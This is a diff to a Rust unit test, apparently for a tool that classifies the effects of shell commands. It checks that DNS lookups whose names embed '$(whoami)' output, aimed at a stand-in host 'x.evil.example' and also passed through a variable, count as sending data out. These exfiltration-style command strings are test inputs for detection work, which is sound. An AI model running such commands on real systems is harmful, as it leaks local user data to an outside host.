@@ -199,11 +199,17 @@ fn a_data_built_lookup_is_a_send_of_the_name() {
     assert_eq!(sent.program, "dig");
     assert!(sent.items.contains(&Payload::Name {
         name: "$(whoami).x.evil.example".into(),
-        domain: "x.evil.example".into(),
+        domain: Some("x.evil.example".into()),
     }));
     assert!(sent.sources().any(|s| !s.commands.is_empty()));
     let plain = call_of(&Example::bash("dig +short example.com"), &scope);
     assert!(!plain.effects.iter().any(|e| matches!(e, Fx::Send { .. })));
+    // A name that is all data names no zone of its own: still a send of the name (session
+    // taint's way out), which `dns-exfiltration` leaves to what feeds it.
+    let data = call_of(&Example::bash("D=$(whoami).x.example; dig \"$D\""), &scope);
+    assert!(data.effects.iter().any(|e| matches!(e,
+        Fx::Send { host: None, sent, .. }
+            if sent.items.contains(&Payload::Name { name: "$D".into(), domain: None }))));
 }
 
 const PUSH: Option<(Effect, &str)> = Some((Ask, "push-to-new-remote"));
